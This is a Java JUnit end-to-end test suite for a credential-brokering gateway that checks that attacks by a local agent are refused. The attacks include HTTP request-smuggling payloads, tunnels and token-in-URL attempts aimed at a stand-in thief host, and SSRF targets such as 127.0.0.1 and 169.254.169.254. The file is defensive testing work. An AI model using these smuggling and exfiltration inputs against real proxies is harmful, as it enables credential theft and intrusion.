package io.keymantle.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Attacks on the built program as an agent of the same machine that has its own token and nothing
/// else, byte by byte. None reaches a service, and none sees the value; the last test shows that
/// the same bytes without the attack do reach it.
class GatewayAttackE2E {
  private static final String VALUE = "ghp_e2eAttack0123456789abcdefABCDEFG";
  private static final String BOUND = Upstream.HOST + ":443";
  private static final String THIEF = Upstream.OTHER + ":443";

  @TempDir static Path folder;
  private static Upstream upstream;
  private static TestHome home;
  private static URI gateway;
  private static String agent;
  private static String token;
  private static String tokenOfAnother;

  private int before;

  @BeforeAll
  static void start() throws IOException {
    upstream = Upstream.start(folder);
    home = TestHome.up(folder, upstream);
    home.mustWithInput(
        VALUE,
        "credential",
        "add",
        "github-api",
        "--destination",
        "https://" + Upstream.HOST,
        "--agents",
        "main,other");
    gateway = URI.create(home.json("status", "--json").get("gateway").stringValue());
    agent = agent("main");
    token = token(agent);
    tokenOfAnother = token(agent("other"));
  }

  private static String agent(String name) {
    String listed = "https://" + Upstream.OTHER;
    return home.json("agent", "add", name, "--allow", listed, "--json").get("token").stringValue();
  }

  private static String token(String agentToken) throws IOException {
    Map<String, String> identity =
        Map.of("KEYMANTLE_AGENT_TOKEN", agentToken, "KEYMANTLE_API", gateway.toString());
    String answer = home.runWith(identity, "request", "github-api", "--json").output();
    return TestHome.parse(answer).get("bare").stringValue();
  }

  @AfterAll
  static void stop() throws IOException {
    String entries = home.must("ledger", "export", "--format", "json").output();
    home.close();
    upstream.close();
    assertThat(entries).contains("destination_mismatch").doesNotContain(VALUE, token);
    try (Stream<Path> logs = Files.walk(home.path().resolve("logs"))) {
      assertThat(logs.filter(Files::isRegularFile))
          .isNotEmpty()
          .allSatisfy(log -> assertThat(log).content().doesNotContain(VALUE, token));
    }
  }

  @BeforeEach
  void count() {
    before = upstream.received().size();
  }

  @AfterEach
  void nothingWasStolen() {
    assertThat(upstream.received().stream().map(Upstream.Received::toString))
        .noneMatch(seen -> seen.contains("kmt_"))
        .noneMatch(seen -> seen.contains(Upstream.OTHER) && seen.contains(VALUE));
  }

  private void assertRefused(ProxyConnection.Reply reply, int status, String code) {
    assertThat(reply.text()).contains("\"code\":\"" + code + "\"").doesNotContain(VALUE);
    assertThat(reply.status()).isEqualTo(status);
    assertThat(upstream.received()).hasSize(before);
  }

  private static ProxyConnection tunnel(String target, String serverName) throws IOException {
    ProxyConnection connection = ProxyConnection.open(gateway);
    assertThat(connection.connect(target, agent).status()).isEqualTo(200);
    return connection.tls(home.path().resolve("ca.pem"), serverName);
  }

  /// A request with a broker token; `|` stands for CR LF.
  private static String request(String line, String host, String fields) {
    return (line + " HTTP/1.1|Host: " + host + "|Authorization: Bearer " + token + "|" + fields)
        .replace("|", "\r\n");
  }

  private static ProxyConnection.Reply ask(String target, String serverName, String request)
      throws IOException {
    try (ProxyConnection connection = tunnel(target, serverName)) {
      return connection.ask(request);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Content-Length: 4|Transfer-Encoding: chunked||0||",
        "Content-Length: 4|Content-Length: 0||",
        "Transfer-Encoding: chunked|Transfer-Encoding: identity||0||",
        "X: y\nX-Smuggled: z||",
        "X: y| folded||",
        "Transfer-Encoding: chunked||0;ext=\"\n\"||",
        "Host: other.example.test||",
        "Transfer-Encoding: chunked||0|Authorization: Bearer x||"
      })
  void message_with_two_readings(String rest) throws IOException {
    ProxyConnection.Reply reply = ask(BOUND, Upstream.HOST, request("POST /", Upstream.HOST, rest));

    assertRefused(reply, 400, "ambiguous_request");
  }

  @Test
  void tunnel_to_the_thief_with_the_bound_host() throws IOException {
    String request = request("GET /", Upstream.HOST, "|");

    assertRefused(ask(THIEF, Upstream.OTHER, request), 403, "destination_mismatch");
  }

  @Test
  void tunnel_to_the_bound_host_with_the_thiefs_server_name() throws IOException {
    String request = request("GET /", Upstream.HOST, "|");

    assertRefused(ask(BOUND, Upstream.OTHER, request), 403, "destination_mismatch");
  }

  @Test
  void tunnel_in_use_that_switches_its_host() throws IOException {
    try (ProxyConnection connection = tunnel(THIEF, Upstream.OTHER)) {
      String harmless = "GET / HTTP/1.1\r\nHost: " + Upstream.OTHER + "\r\n\r\n";
      assertThat(connection.ask(harmless).status()).isEqualTo(200);
      before++;

      assertRefused(
          connection.ask(request("GET /", Upstream.HOST, "|")), 403, "destination_mismatch");
    }
  }

  @Test
  void absolute_target_of_another_host_in_a_tunnel() throws IOException {
    String request = request("GET https://" + Upstream.HOST + "/", Upstream.OTHER, "|");

    assertRefused(ask(THIEF, Upstream.OTHER, request), 403, "destination_mismatch");
  }

  @ParameterizedTest
  @CsvSource({
    "https://api.example.test/, api.example.test, 400, invalid_request",
    "http://api.example.test/, api.example.test, 403, plain_not_allowed",
    "http://api.example.test:443/, api.example.test:443, 403, plain_not_allowed",
    "http://other.example.test/, api.example.test, 403, destination_mismatch"
  })
  void plain_request_for_a_destination_of_tls(String target, String host, int status, String code)
      throws IOException {
    try (ProxyConnection connection = ProxyConnection.open(gateway)) {
      String identity = "Proxy-Authorization: Bearer " + agent + "||";

      assertRefused(connection.ask(request("GET " + target, host, identity)), status, code);
    }
  }

  @Test
  void upgrade_to_http2() throws IOException {
    String upgrade = "Connection: Upgrade, HTTP2-Settings|Upgrade: h2c|HTTP2-Settings: AAMAAABk||";
    String request = request("GET /", Upstream.HOST, upgrade);

    assertRefused(ask(BOUND, Upstream.HOST, request), 403, "upgrade_not_allowed");
  }

  @Test
  void preface_of_http2() throws IOException {
    String preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

    assertRefused(ask(BOUND, Upstream.HOST, preface), 400, "ambiguous_request");
  }

  @ParameterizedTest
  @CsvSource({
    "other.example.test:443, destination_mismatch",
    "api.example.test:443, method_not_allowed"
  })
  void tunnel_within_a_tunnel(String host, String code) throws IOException {
    assertRefused(ask(BOUND, Upstream.HOST, request("CONNECT " + THIEF, host, "|")), 403, code);
  }

  @ParameterizedTest
  @ValueSource(strings = {"/?key=TOKEN", "/TOKEN", "/?key=TOKEN&key=TOKEN"})
  void token_in_a_url_of_the_thief(String target) throws IOException {
    String request =
        "GET "
            + target.replace("TOKEN", token)
            + " HTTP/1.1\r\nHost: "
            + Upstream.OTHER
            + "\r\n\r\n";

    assertRefused(ask(THIEF, Upstream.OTHER, request), 403, "destination_mismatch");
  }

  @Test
  void token_in_a_url_of_its_own_host() throws IOException {
    String request = "GET /?key=" + token + " HTTP/1.1\r\nHost: " + Upstream.HOST + "\r\n\r\n";

    assertRefused(ask(BOUND, Upstream.HOST, request), 403, "surface_mismatch");
  }

  @Test
  void token_of_another_agent() throws IOException {
    String request = request("GET /", Upstream.HOST, "|").replace(token, tokenOfAnother);

    assertRefused(ask(BOUND, Upstream.HOST, request), 403, "token_of_other_agent");
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "Proxy-Authorization: Bearer kma_0|", "Proxy-Authorization: Basic|"})
  void tunnel_without_an_agents_token(String identity) throws IOException {
    try (ProxyConnection connection = ProxyConnection.open(gateway)) {
      String request = "CONNECT " + BOUND + " HTTP/1.1|Host: " + BOUND + "|" + identity + "|";

      assertRefused(
          connection.ask(request.replace("|", "\r\n")), 407, "proxy_authentication_required");
    }
  }

  @Test
  void tunnel_for_a_broker_token_in_place_of_the_agents() throws IOException {
    try (ProxyConnection connection = ProxyConnection.open(gateway)) {
      assertRefused(connection.connect(BOUND, token), 407, "proxy_authentication_required");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "127.0.0.1:443",
        "169.254.169.254:80",
        "api.example.test:8443",
        "leak.thief.test:443"
      })
  void tunnel_to_where_no_binding_leads(String target) throws IOException {
    try (ProxyConnection connection = ProxyConnection.open(gateway)) {
      assertRefused(connection.connect(target, agent), 403, "destination_not_allowed");
    }
  }

  @Test
  void header_of_a_hundred_thousand_bytes() throws IOException {
    String request = request("GET /", Upstream.HOST, "X: " + "a".repeat(100_000) + "||");

    assertRefused(ask(BOUND, Upstream.HOST, request), 431, "head_too_large");
  }

  @Test
  void same_request_without_an_attack_is_served_and_masked() throws IOException {
    ProxyConnection.Reply reply = ask(BOUND, Upstream.HOST, request("GET /", Upstream.HOST, "|"));

    assertThat(reply.status()).isEqualTo(200);
    assertThat(reply.text()).contains("Bearer [redacted:github-api]").doesNotContain(VALUE);
    assertThat(upstream.received()).hasSize(before + 1);
    assertThat(upstream.received().getLast().authorization()).isEqualTo("Bearer " + VALUE);
  }
}
